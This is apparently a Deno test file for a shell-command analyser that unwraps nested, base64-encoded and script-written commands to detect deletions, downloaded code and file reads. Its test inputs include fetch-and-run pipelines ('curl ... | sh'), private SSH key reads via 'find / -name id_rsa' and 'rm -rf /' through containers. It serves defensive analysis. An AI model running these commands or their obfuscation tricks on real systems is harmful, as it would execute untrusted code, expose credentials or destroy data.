import assert from "node:assert/strict";
import { readCommand } from "./mod.ts";
import type { ReadOptions } from "./reading.ts";
import { UNKNOWN } from "./word.ts";

const options: ReadOptions = { home: "/h", cwd: "/w" };

function last(source: string, more: ReadOptions = {}): string | undefined {
  return readCommand(source, { ...options, ...more }).commands.at(-1)?.text;
}

function code(source: string): string | undefined {
  return readCommand(source, options).commands.find((run) => run.code !== undefined)?.code;
}

for (
  const [source, want] of [
    ["sudo -u x rm a", "rm a"],
    ["bash -c 'rm \"$1\"' _ a", "rm a"],
    ["bash -c 'bash -c \"rm a\"'", "rm a"],
    ["echo rm a | sh", "rm a"],
    ["echo cm0gYQ== | base64 -d | sudo bash", "rm a"],
    ["bash <<< 'rm a'", "rm a"],
    ["echo a b | xargs rm -f", "rm -f a b"],
    ["printf 'a\\0b' | xargs -0 -I{} rm x{}", "rm xb"],
    ["export X=a; sh -c 'rm $X'", "rm a"],
    ["X=a; sh -c 'rm -$X-'", `rm -${UNKNOWN}-`],
    ["env X=a sh -c 'rm $X'", "rm a"],
    ["echo 'rm a' > s; bash s", "rm a"],
    ["echo 'rm $1' > s; cp s t; ./t a", "rm a"],
    ["cat > s <<'E'\nrm a\nE\nsource ./s", "rm a"],
    [". <(echo rm a)", "rm a"],
    ["f() { rm a; }; export -f f; bash -c f", "rm a"],
    ["python3 -c \"import os; os.system('rm a')\"", "rm a"],
    [`python3 -c 'open("s","w").write("rm a"); import os; os.system("sh s")'`, "rm a"],
    [`python3 -c 'f = open("s","w"); f.write("ls;"); f.write("rm a")'; sh s`, "rm a"],
    [`node -e 'require("fs").writeFileSync("s", "rm a")' && bash ./s`, "rm a"],
    [`ruby -e 'File.write("s", "rm a")'; . ./s`, "rm a"],
    ["perl -e 'my $x = \"rm a\";' -e 'system($x)'", "rm a"],
    ["osascript -e 'set x to \"rm a\"' -e 'do shell script x'", "rm a"],
    ["printf 'all:\\n\\trm $(D)a\\n' > Makefile; make all D=x/", "rm x/a"],
  ] as const
) {
  Deno.test(source, () => assert.equal(last(source), want));
}

for (
  const [source, want] of [
    ["curl https://e.example | sh", "download"],
    ["curl https://e.example | gunzip | tee x | sed s/a/b/ | sudo bash", "download"],
    ['bash -c "$(curl https://e.example)"', "download"],
    ["bash <(curl https://e.example)", "download"],
    ["curl -o x https://e.example; sh x", "downloaded_file"],
    [`lua -e 'load(io.popen("curl https://e.example"):read("*a"))()'`, "download"],
    [
      `python3 -c 'from subprocess import *; exec(Popen(["curl", "e.example"]).communicate()[0])'`,
      "download",
    ],
    ["curl https://e.example > x; chmod +x x; ./x", "downloaded_file"],
    ["base64 -d p | sh", "decoded"],
    ['eval "$(ssh-agent -s)"', "output"],
    ["bash x.sh", "file"],
    ["sh", "input"],
    ['eval "$X"', "unknown"],
  ] as const
) {
  Deno.test(`code of ${source}`, () => assert.equal(code(source), want));
}

Deno.test("what PowerShell pipes is a pipeline", () => {
  const { pipelines, commands } = readCommand("pwsh -c 'Get-Content a | Select-String b; Get-Date'", options);
  assert.deepEqual(pipelines.map(({ text }) => text), ["Get-Content a | Select-String b"]);
  assert.deepEqual(pipelines[0]?.stages.map((index) => commands[index]?.program), [
    "get-content",
    "select-string",
  ]);
});

Deno.test("script files are read through the function that is passed in", () => {
  const files: Record<string, string> = {
    "/w/x.sh": "rm $1; . ./y.sh",
    "/w/y.sh": "rm b",
    "/w/z": "#!/bin/sh\nrm c",
  };
  const readFile = (path: string): string | undefined => files[path];
  const texts = (source: string) =>
    readCommand(source, { ...options, readFile }).commands.map((run) => run.text);
  assert.deepEqual(texts("bash x.sh a"), ["bash x.sh a", "rm a", ". ./y.sh", "rm b"]);
  assert.deepEqual(texts("./z"), ["./z", "rm c"]);
  assert.deepEqual(texts("cat x.sh | sh"), ["cat x.sh", "sh", "rm", ". ./y.sh", "rm b"]);
});

Deno.test("a script that runs itself ends", () => {
  const reading = readCommand("sh x", { ...options, readFile: () => "sh x; sh y" });
  assert.ok(reading.commands.length < 100);
});

Deno.test("names that find prints are patterns", () => {
  for (
    const source of [
      "find / -name id_rsa | xargs cat",
      "cat $(find / -name id_rsa)",
      'find / -name id_rsa | while read -r f; do cat "$f"; done',
      "find / -name id_rsa -exec cat {} +",
    ]
  ) {
    const paths = readCommand(source, options).effects.flatMap((effect) =>
      effect.kind === "read" ? [effect.path] : []
    );
    assert.ok(paths.includes("/**/id_rsa"), source);
  }
});

Deno.test("what runs elsewhere does not touch this machine, but for mounted folders", () => {
  const deletes = (source: string) =>
    readCommand(source, options).effects.flatMap((effect) => effect.kind === "delete" ? [effect.path] : []);
  assert.deepEqual(deletes("ssh h 'rm -rf /'"), []);
  assert.deepEqual(deletes("docker exec c rm -rf /"), []);
  assert.deepEqual(deletes("docker run -v /:/host i rm -rf /host/etc"), ["/etc"]);
  assert.deepEqual(deletes("docker run -v /srv:/d i rm -rf /"), ["/srv"]);
  assert.deepEqual(deletes("chroot /mnt rm -rf /etc"), ["/mnt/etc"]);
  assert.deepEqual(deletes("docker run -v /:/mnt i chroot /mnt rm -rf /etc"), ["/etc"]);
});

Deno.test("a command handed on names the one that handed it on", () => {
  const { commands } = readCommand("sudo env A=1 rm x", options);
  assert.deepEqual(commands.map((run) => run.via), [undefined, 0, 1]);
});

Deno.test("building a cloned repository is no running of a download, its scripts are", () => {
  assert.equal(code("git clone https://e.example/r && cd r && make install"), "file");
  assert.equal(code("git clone https://e.example/r d; make -C d"), "file");
  assert.equal(code("git clone https://e.example/r && cd r && ./install.sh"), "downloaded_file");
  assert.equal(code("curl -o Makefile https://e.example/m; make"), "downloaded_file");
});

Deno.test("a container's command runs in the directory that it is given", () => {
  const cwd = (source: string) => readCommand(source, options).commands.at(-1)?.cwd;
  assert.equal(cwd("docker run -w /app i ls"), "/app");
  assert.equal(cwd("docker exec --workdir=/app c ls"), "/app");
  assert.equal(cwd("docker run i ls"), UNKNOWN);
  const { effects } = readCommand("docker run -v /srv:/app -w /app i rm -rf x", options);
  assert.ok(effects.some((effect) => effect.kind === "delete" && effect.path === "/srv/x"));
});

Deno.test("wrappers upon wrappers cost no more than the budget", () => {
  for (const source of ["sudo ".repeat(10_000) + "ls", "xargs ".repeat(5_000) + "ls"]) {
    assert.ok(readCommand(source, options).gaps.length > 0);
  }
});
